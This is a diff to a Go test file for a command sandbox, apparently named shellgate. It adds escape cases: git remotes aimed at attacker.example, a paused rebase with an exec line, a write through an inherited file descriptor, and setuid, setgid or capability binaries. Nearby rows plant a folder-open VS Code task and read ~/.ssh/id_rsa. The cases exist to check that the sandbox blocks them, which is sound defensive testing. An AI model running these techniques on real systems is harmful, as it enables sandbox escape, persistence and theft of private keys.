@@ -20,6 +20,7 @@ import (
 
 	"github.com/shellgate/shellgate/internal/asuser"
 	"github.com/shellgate/shellgate/internal/testenv"
+	"golang.org/x/sys/unix"
 )
 
 // The escapes of issue 26, each from a script in a workspace-write
@@ -40,6 +41,11 @@ type escWorld struct {
 	reached        atomic.Int32
 	lo             *loopback
 	env            []string
+	// inherited is a descriptor of this process, opened without
+	// close-on-exec (as a parent program may leave one) on the file
+	// inheritedLog outside the roots.
+	inherited    int
+	inheritedLog string
 }
 
 const escCanaryKey = "FAKE-PRIVATE-KEY-CANARY"
@@ -94,6 +100,11 @@ func newEscWorld(t *testing.T, n int) *escWorld {
 	t.Cleanup(func() { sleep.Process.Kill(); sleep.Wait() })
 	e.pid = sleep.Process.Pid
 	e.limits, e.stat = procFile(e.pid, "limits"), procFile(e.pid, "stat")
+	e.inheritedLog = filepath.Join(e.home, "inherited.log")
+	if e.inherited, err = syscall.Open(e.inheritedLog, syscall.O_WRONLY|syscall.O_CREAT|syscall.O_APPEND, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { syscall.Close(e.inherited) })
 	e.sock = filepath.Join(e.home, "agent.sock")
 	ln, err := net.Listen("unix", e.sock)
 	if err != nil {
@@ -152,12 +163,63 @@ var escRows = []escRow{
 		escaped: func(e *escWorld, out string) (bool, string) {
 			return strings.Contains(out, "PLANTED") || strings.Contains(e.read(".git/config"), "fsmonitor"), "core.fsmonitor was in .git/config"
 		}},
+	{name: "define a remote in .git/remotes (git push origin sends there)",
+		script: func(*escWorld) string {
+			return `mkdir -p .git/remotes && printf 'URL: https://attacker.example/x.git\n' > .git/remotes/origin && echo PLANTED; ` +
+				`printf 'https://attacker.example/y.git\n' > .git/branches/up && echo PLANTED-BRANCHES`
+		},
+		escaped: func(e *escWorld, out string) (bool, string) {
+			return strings.Contains(e.read(".git/remotes/origin"), "attacker") || strings.Contains(e.read(".git/branches/up"), "attacker"),
+				"a remote git reads from .git/remotes or .git/branches was left"
+		}},
+	{name: "leave a paused rebase with an exec line (git rebase --continue runs it)",
+		script: func(*escWorld) string {
+			return `git -c user.name=T -c user.email=t@example.com commit -q --allow-empty -m two && ` +
+				`GIT_SEQUENCE_EDITOR="sed -i '1i break'" git -c user.name=T -c user.email=t@example.com rebase -q -i --exec 'touch pwned' HEAD~1; ` +
+				`grep -q '^exec' .git/rebase-merge/git-rebase-todo && echo PLANTED`
+		},
+		escaped: func(e *escWorld, out string) (bool, string) {
+			return strings.Contains(e.read(".git/rebase-merge/git-rebase-todo"), "exec"), "the todo list's exec line was left for git rebase --continue"
+		}},
 	{name: "plant .vscode/tasks.json (existing .vscode)",
 		script: func(*escWorld) string {
 			return `echo '{"runOn":"folderOpen"}' > .vscode/tasks.json && echo PLANTED`
 		},
 		escaped: func(e *escWorld, out string) (bool, string) {
 			return strings.Contains(out, "PLANTED") || strings.Contains(e.read(".vscode/tasks.json"), "folderOpen"), ".vscode/tasks.json was written"
+		}},
+	{name: "write through a descriptor inherited from the runner",
+		script: func(e *escWorld) string {
+			return "ls -l /proc/self/fd; bash -c 'echo PWNED >&" + strconv.Itoa(e.inherited) + "' && echo WROTE"
+		},
+		escaped: func(e *escWorld, out string) (bool, string) {
+			b, _ := os.ReadFile(e.inheritedLog)
+			return strings.Contains(string(b), "PWNED") || strings.Contains(out, "WROTE"), "a file outside the roots was written through the inherited descriptor"
+		}},
+	{name: "leave a set-user-ID or set-group-ID file", need: escPython,
+		// As root, a set-user-ID root program in the workspace is one
+		// its owner's users run later as root.
+		script: func(*escWorld) string {
+			return `cp /bin/true suid && chmod u+s suid; cp /bin/true sgid && chmod 2755 sgid; ` +
+				escPython + ` -c 'import os; os.close(os.open("made", os.O_CREAT|os.O_WRONLY, 0o4755))'; ` +
+				escPython + ` -c 'import os; os.close(os.open(".", os.O_TMPFILE|os.O_WRONLY, 0o4755))'; ` +
+				`cp /bin/true cap && setcap cap_setuid+ep cap; ls -l suid sgid made cap`
+		},
+		escaped: func(e *escWorld, _ string) (bool, string) {
+			var found []string
+			filepath.WalkDir(e.ws, func(p string, d os.DirEntry, err error) error {
+				if err != nil || !d.Type().IsRegular() {
+					return nil
+				}
+				if fi, err := d.Info(); err == nil && fi.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
+					found = append(found, filepath.Base(p))
+				}
+				if v, err := unix.Lgetxattr(p, "security.capability", make([]byte, 64)); err == nil && v > 0 {
+					found = append(found, filepath.Base(p)+" (capabilities)")
+				}
+				return nil
+			})
+			return len(found) > 0, fmt.Sprintf("%v were left with set-ID bits or capabilities", found)
 		}},
 	{name: "ls ~ approved, then read ~/.ssh/id_rsa", lists: true,
 		script:  func(*escWorld) string { return `ls -a ~ >/dev/null; cat "$HOME/.ssh/id_rsa"` },
